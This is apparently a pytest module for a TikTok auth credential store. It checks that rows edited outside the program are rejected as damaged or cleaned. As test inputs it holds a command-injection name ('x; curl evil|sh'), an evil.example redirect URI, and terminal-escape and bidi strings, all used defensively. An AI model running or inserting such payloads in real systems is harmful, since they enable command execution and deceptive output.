"""Rows that somebody else wrote, or changed: each is its own damage, and told in one line."""

from __future__ import annotations

import math
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from tap_tiktok_auth.credentials.models import AdvertiserListing, Event
from tap_tiktok_auth.errors import StoreDamaged, StoreKeyError
from tap_tiktok_auth.store.keys import Cipher, new_key
from tests.store.backends import PostgresBackend
from tests.store.samples import renewed, stored

if TYPE_CHECKING:
    from tap_tiktok_auth.credentials.models import StoredConnection
    from tap_tiktok_auth.store import Claim, Store
    from tests.store.backends import Backend

#: What another program may have left in a column: a literal, or one for each database.
_JUNK = ("'\x1b]0;x\x07'", "'x'", "'[1'", "'{\"a\": 1}'", "-1", "9223372036854775807", "NULL")
_LITTLE = ("X'00FF'", "1e300", "CAST(X'FF80' AS TEXT)", "9e999", "-9e999")  # SQLite alone
_GREAT = ("'NaN'", "'Infinity'", "'-Infinity'")  # PostgreSQL alone

_TEXTS = (
    "payload", "status", "redirect_uri", "seed_hash", "spent_seeds", "obtained_by", "scopes",
    "subject_id", "attempt_key", "attempt_outcome", "last_error_message", "last_error_code",
    "request_id", "token_fingerprint",
)  # fmt: skip
_MOMENTS = (
    "issued_at", "access_token_expires_at", "refresh_token_expires_at", "consent_deadline",
    "last_refreshed_at", "attempt_at", "last_error_at", "verified_at",
)  # fmt: skip
_COUNTS = ("generation", "refresh_count", "long_term")


def take(store: Store, holder: str, name: str = "acme", ttl: float = 60.0) -> Claim:
    """Take a connection's lease, if it is free."""
    return store.claim(name, holder, ttl, lambda record: record)


def _write(backend: Backend, table: str, column: str, value: str, where: str) -> bool:
    """Write a value behind the store's back; False where the database itself refuses it."""
    if isinstance(backend, PostgresBackend) and value == "NULL":
        backend.sql(f"ALTER TABLE {table} ALTER COLUMN {column} DROP NOT NULL")
    try:
        backend.sql(f"UPDATE {table} SET {column} = {value} WHERE {where}")
    except Exception:  # noqa: BLE001  (whatever the driver says)
        return False
    return True


def _loosened(backend: Backend) -> None:
    """Take from a SQLite store the rules that an old or foreign program need not keep."""
    if isinstance(backend, PostgresBackend):
        return
    backend.sql("PRAGMA writable_schema = ON")
    ((sql,),) = backend.sql("SELECT sql FROM sqlite_master WHERE name = 'connections'")
    for table in ("connections", "advertisers", "events"):
        ((sql,),) = backend.sql(f"SELECT sql FROM sqlite_master WHERE name = '{table}'")
        loose = sql.replace(" NOT NULL", "")
        columns = loose[loose.index("(") :]
        backend.sql(f"ALTER TABLE {table} RENAME TO old_{table}")
        backend.sql(f"CREATE TABLE {table} {columns}")
        backend.sql(f"INSERT INTO {table} SELECT * FROM old_{table}")
        backend.sql(f"DROP TABLE old_{table}")


@pytest.mark.parametrize("column", [*_TEXTS, *_MOMENTS, *_COUNTS])
def test_any_column_may_hold_anything(store: Store, backend: Backend, column: str) -> None:
    """Whatever a column holds: its row is read with clean texts, or is that row's damage alone."""
    good, _ = stored(store, "good"), stored(store, "bad")
    store.close()
    _loosened(backend)
    junk = (*_JUNK, *(_GREAT if isinstance(backend, PostgresBackend) else _LITTLE))
    store = backend.open()
    for value in junk:
        if not _write(backend, "connections", column, value, "name = 'bad'"):
            continue
        damaged: list[tuple[str, StoreDamaged]] = []
        records = _read(store, damaged)

        assert good in records, value
        assert len(records) + len(damaged) == 2, value
        for record in records:
            _assert_fit(record)
        for name, error in damaged:
            assert name == "bad"
            assert "tiktok-auth forget bad" in str(error)
            assert len(str(error).splitlines()) == 1
        bad = [record for record in records if record.name == "bad"]
        if bad:
            assert store.read("bad") == bad[0]
            claim = take(store, "me", "bad")
            assert claim.stored is not None
            store.release("bad", "me")
            assert store.read("bad") is not None
        else:
            with pytest.raises(StoreDamaged):
                store.read("bad")
    assert store.forget("bad")


def _read(store: Store, damaged: list[tuple[str, StoreDamaged]]) -> list[StoredConnection]:
    return store.records(lambda name, _api, error: damaged.append((name, error)))


def _assert_fit(record: StoredConnection) -> None:
    failure, token = record.failure, record.token
    texts = [record.subject_id, record.request_id, record.redirect_uri, *(record.scopes or ())]
    texts += [failure.message, failure.code] if failure else []
    assert all(text is None or text.isprintable() for text in texts)
    moments = [record.verified_at, record.last_refreshed_at, failure.at if failure else None]
    moments += [token.issued_at, token.expires_at, token.consent_deadline] if token else []
    assert all(m is None or math.isfinite(m) for m in moments)


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("status", "'revoked'"),
        ("long_term", "1"),
        ("issued_at", "issued_at + 1"),
        ("access_token_expires_at", "1.0"),
        ("access_token_expires_at", "NULL"),
        ("refresh_token_expires_at", "refresh_token_expires_at + 1000000"),
        ("consent_deadline", "NULL"),
        ("redirect_uri", "'https://evil.example/'"),
        ("seed_hash", "NULL"),
        ("spent_seeds", "'[]'"),
        ("obtained_by", "'login'"),
        ("subject_id", "'someone-else'"),
        ("scopes", "'[\"all\"]'"),
        ("attempt_key", "NULL"),
        ("attempt_at", "0.0"),
        ("attempt_outcome", "'sent'"),
    ],
)
def test_what_is_decided_by_cannot_be_edited(
    store: Store, backend: Backend, column: str, value: str
) -> None:
    """An edited expiry, seed, status or mark is not believed, however plausible it is."""
    stored(store)
    backend.sql(f"UPDATE connections SET {column} = {value}")
    with pytest.raises(StoreDamaged, match=r"^connection acme: .* was changed\."):
        store.read("acme")


def test_an_edited_row_is_not_sealed_anew(store: Store, backend: Backend) -> None:
    """An amendment of what is sealed does not make an edited row pass as this program's."""
    record = stored(store)
    backend.sql("UPDATE connections SET seed_hash = NULL")
    with pytest.raises(StoreDamaged, match="was changed"):
        store.amend(replace(record, status="active"), ("status",))
    with pytest.raises(StoreDamaged, match="was changed"):
        store.read("acme")


def test_what_the_store_changes_itself_is_believed(store: Store) -> None:
    """Claims, amendments and commits leave rows that can be read."""
    record = stored(store, attempt=None)
    token = record.token
    assert token is not None
    for number in range(1, 4):
        assert take(store, f"h{number}").outcome == "held"
        ended = renewed(record, f"act.{number}")
        assert store.commit(ended, f"h{number}")
        record = replace(
            ended, status="reauthorization_required", scopes=("a", "b"), seed_hash="00"
        )
        assert store.amend(record, ("status", "scopes", "seed_hash", "failure", "subject_id"))
        found = store.read("acme")
        assert found is not None
        assert (found.status, found.scopes) == (record.status, record.scopes)


@pytest.mark.parametrize(
    "name",
    ["x; curl evil|sh", "a\nb", "\x1b[31mred", "\u202ereversed", "", "-rf", "a" * 101, "a b"],
)
def test_a_name_that_is_none_becomes_no_command(store: Store, backend: Backend, name: str) -> None:
    """A row whose name no connection can have is told of by one clean line without a command."""
    good = stored(store, "good")
    stored(store, "bad")
    literal = " || ".join(f"chr({ord(char)})" for char in name) or "''"
    if not isinstance(backend, PostgresBackend):
        literal = f"char({', '.join(str(ord(char)) for char in name)})"
    backend.sql(f"UPDATE connections SET name = {literal} WHERE name = 'bad'")
    damaged: list[str] = []
    assert store.records(lambda _name, _api, error: damaged.append(str(error))) == [good]
    (line,) = damaged
    assert line.isprintable()
    assert "tiktok-auth" not in line
    assert len(line) < 400


@pytest.mark.parametrize("column", ["last_error_message", "scopes", "payload", "redirect_uri"])
def test_a_very_long_text_is_bounded(store: Store, backend: Backend, column: str) -> None:
    """Fifty million characters are one row's damage, or are cut."""
    good, _ = stored(store, "good"), stored(store, "bad")
    long = "repeat('x', 50000000)"
    if not isinstance(backend, PostgresBackend):
        long = "replace(hex(zeroblob(25000000)), '00', 'xx')"
    backend.sql(f"UPDATE connections SET {column} = {long} WHERE name = 'bad'")
    damaged: list[str] = []
    records = store.records(lambda _name, _api, error: damaged.append(str(error)))
    assert good in records
    assert all(len(line) < 400 for line in damaged)
    messages = [r.failure.message for r in records if r.failure]
    assert all(len(message) <= 500 for message in messages)


@pytest.mark.parametrize("whole", [True, False])
def test_a_row_of_an_unknown_key_is_its_own_damage(
    store: Store, backend: Backend, whole: bool
) -> None:
    """All others are read, the store's key is changed, the store is copied, the row forgotten."""
    good, bad = stored(store, "good"), stored(store, "bad")
    sealed = Cipher.from_text(new_key()).seal({}) if whole else "0123456789abcdef:gAAAA"
    backend.sql(f"UPDATE connections SET payload = '{sealed}' WHERE name = 'bad'")

    damaged: list[str] = []

    def note(name: str, _api: str, error: StoreDamaged) -> None:
        damaged.append(name)
        assert "a key that is not there" in str(error)

    assert store.records(note) == [good]
    with pytest.raises(StoreDamaged):
        take(store, "me", "bad")
    assert [record.name for record in store.snapshot(note).records] == ["good"]
    new = new_key()
    assert store.rotate_key(Cipher.from_text(f"{new},{backend.key}"), note) == 1
    assert damaged == ["bad", "bad", "bad"]
    ((kept,),) = backend.sql("SELECT payload FROM connections WHERE name = 'bad'")
    assert kept == sealed
    assert backend.open(new).read("good") == good
    assert store.forget("bad")
    assert store.commit(bad, None)


def test_a_store_whose_own_key_is_gone_is_told_as_such(store: Store, backend: Backend) -> None:
    """If the whole store was sealed anew elsewhere, no single row is blamed."""
    stored(store)
    new = new_key()
    backend.open().rotate_key(Cipher.from_text(f"{new},{backend.key}"))
    with pytest.raises(StoreKeyError):
        store.read("acme")
    with pytest.raises(StoreKeyError):
        store.records(lambda *_: None)


@pytest.mark.parametrize(
    ("ahead", "outcome"),
    [(60, "busy"), (110, "busy"), (150, "held"), (1e9, "held"), (math.inf, "held"), (-1, "held")],
)
def test_a_lease_that_nobody_takes_so_long_is_free(
    store: Store, backend: Backend, ahead: float, outcome: str
) -> None:
    """A lease that ends later than two terms from now is as good as none."""
    stored(store)
    assert take(store, "me", ttl=60.0).outcome == "held"
    moment = store.now() + ahead
    literal = "9e999" if math.isinf(moment) else repr(moment)
    if isinstance(backend, PostgresBackend) and math.isinf(moment):
        literal = "'Infinity'"
    backend.sql(f"UPDATE connections SET held_until = {literal}")
    assert take(store, "you", ttl=60.0).outcome == outcome


def test_a_lease_of_a_patient_holder_is_respected(store: Store) -> None:
    """A holder with a longer term, which its name tells, keeps its lease against others."""
    stored(store)
    assert take(store, "here:1:2:abc/660", ttl=660.0).outcome == "held"
    assert take(store, "here:1:2:def/90", ttl=90.0).outcome == "busy"


@pytest.mark.parametrize("column", ["held_by", "held_until"])
@pytest.mark.parametrize("value", [*_JUNK, *_LITTLE, *_GREAT])
def test_a_strange_lease_is_none(store: Store, backend: Backend, column: str, value: str) -> None:
    """What is no lease keeps nobody from a connection for longer than a lease lasts."""
    stored(store)
    assert take(store, "me", ttl=60.0).outcome == "held"
    if _write(backend, "connections", column, value, "name = 'acme'"):
        assert take(store, "you", ttl=60.0).outcome in {"held", "busy"}


def test_hostile_events_and_ad_accounts_are_left_out_or_cleaned(
    store: Store, backend: Backend, caplog: pytest.LogCaptureFixture
) -> None:
    """Events and ad accounts come clean; those that make no sense are left out, and counted."""
    record = stored(store)
    hostile = "\x1b]0;pwn\x07a\u202eb\u200bc\nd"
    seen = AdvertiserListing(
        (("1", hostile), ("2", "Second"), ("3", "Third")), "advertiser_get", complete=True
    )
    event = Event("refresh_failed", "acme", error_message=hostile, error_code="\x1b[2J40105")
    assert store.amend(record, (), events=[event, event, event], sighting=seen)
    store.close()
    _loosened(backend)
    ids = [i for (i,) in backend.sql("SELECT event_id FROM events ORDER BY event_id")]
    far = "'NaN'" if isinstance(backend, PostgresBackend) else "'soon'"
    assert _write(backend, "events", "occurred_at", far, f"event_id = {ids[1]}")
    assert _write(backend, "events", "event_id", "9000000000000000000", f"event_id = {ids[2]}")
    assert _write(backend, "advertisers", "first_seen_at", far, "advertiser_id = '2'")
    assert _write(backend, "advertisers", "last_seen_at", "NULL", "advertiser_id = '3'")
    assert _write(backend, "meta", "value", "'none'", "name = 'last_event_id'")

    store = backend.open()
    accounts = list(store.advertisers("acme"))
    events = list(store.events())

    assert [account.advertiser_id for account in accounts] == ["1"]
    assert accounts[0].name is not None
    assert accounts[0].name.isprintable()
    assert events[0].event_id == ids[0]
    assert len(events) == 4  # one refresh and three grants of ad accounts
    for one in events:
        assert all(text is None or text.isprintable() for text in one.event)
    assert any("2 damaged rows" in line.getMessage() for line in caplog.records)
    assert store.snapshot().events
    again = AdvertiserListing((("2", "Second"),), "advertiser_get", complete=False)
    assert store.amend(record, (), events=[event], sighting=again)
    assert {account.advertiser_id for account in store.advertisers("acme")} == {"1", "2"}
